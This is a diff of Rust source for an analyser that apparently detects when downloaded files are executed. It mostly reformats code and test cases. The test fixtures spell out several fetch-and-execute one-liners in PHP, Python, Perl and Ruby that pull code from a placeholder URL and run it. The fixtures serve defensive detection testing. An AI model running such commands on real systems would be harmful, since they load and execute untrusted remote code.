@@ -271,8 +271,7 @@ impl Flow {
 
     /// `cmp FETCHED OWN`: what equals a file of one's own is known.
     fn compared(&mut self, words: &[&Word]) {
-        let (fetched, own): (Vec<&Word>, Vec<&Word>) =
-            words.iter().partition(|word| self.file(&word.text).is_some());
+        let (fetched, own): (Vec<&Word>, Vec<&Word>) = words.iter().partition(|word| self.file(&word.text).is_some());
         if !own.is_empty() {
             for word in fetched {
                 self.put(&word.text, None);
@@ -520,8 +519,14 @@ mod tests {
             ("php -r \"copy('https://x/i', 's.php');\" && php s.php", "php s.php php"),
             ("php -r \"eval(file_get_contents('https://x/i'));\"", "php php"),
             ("php -r \"include 'https://x/i';\"", "php php"),
-            ("python3 -c 'import urllib.request as r; r.urlretrieve(\"https://x/i\", \"i.py\")'; python3 i.py", "python i.py python3"),
-            ("python3 -c 'exec(__import__(\"urllib.request\").request.urlopen(\"https://x/i\").read())'", "python python3"),
+            (
+                "python3 -c 'import urllib.request as r; r.urlretrieve(\"https://x/i\", \"i.py\")'; python3 i.py",
+                "python i.py python3",
+            ),
+            (
+                "python3 -c 'exec(__import__(\"urllib.request\").request.urlopen(\"https://x/i\").read())'",
+                "python python3",
+            ),
             ("perl -MLWP::Simple -e 'getstore(\"https://x/i\", \"i.sh\")' && sh i.sh", "perl i.sh sh"),
             ("ruby -ropen-uri -e 'eval URI.open(\"https://x/i\").read'", "ruby ruby"),
             (
